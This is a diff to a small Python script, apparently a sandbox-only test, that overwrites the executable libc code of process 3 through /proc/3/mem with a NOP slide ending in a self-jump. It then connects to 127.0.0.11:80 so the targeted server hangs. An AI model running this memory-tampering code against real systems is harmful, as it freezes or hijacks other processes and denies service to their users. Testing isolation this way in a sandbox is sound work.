@@ -7,13 +7,15 @@
 # ///
 if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
 import re
+import socket
 import time
 
-# jmp to itself, over all code of the C library: wherever the server is next, it stays there.
+# Over all code of the C library: wherever the server is next, it slides to a jump to itself.
 with open("/proc/3/maps") as maps:
     start, end = re.search(r"^(\w+)-(\w+) r-xp .*libc", maps.read(), re.M).groups()
 with open("/proc/3/mem", "r+b", buffering=0) as memory:
     memory.seek(int(start, 16))
-    memory.write(b"\xeb\xfe" * ((int(end, 16) - int(start, 16)) // 2))
+    memory.write(b"\x90" * (int(end, 16) - int(start, 16) - 2) + b"\xeb\xfe")
 print("written over", flush=True)
+one = socket.create_connection(("127.0.0.11", 80))
 time.sleep(60)
